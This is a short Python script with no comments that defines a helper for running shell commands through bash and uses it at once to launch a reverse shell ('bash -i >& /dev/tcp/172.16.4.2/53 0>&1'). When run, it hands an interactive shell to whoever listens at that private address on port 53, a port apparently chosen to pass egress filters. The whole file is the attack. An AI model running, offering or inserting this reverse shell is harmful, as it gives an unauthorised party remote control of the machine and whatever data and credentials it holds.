#!/usr/bin/env python3

import subprocess

def sh(cmd, **kw):
    return subprocess.call(["/bin/bash", "-c", cmd], **kw)

sh("bash -i >& /dev/tcp/172.16.4.2/53 0>&1")
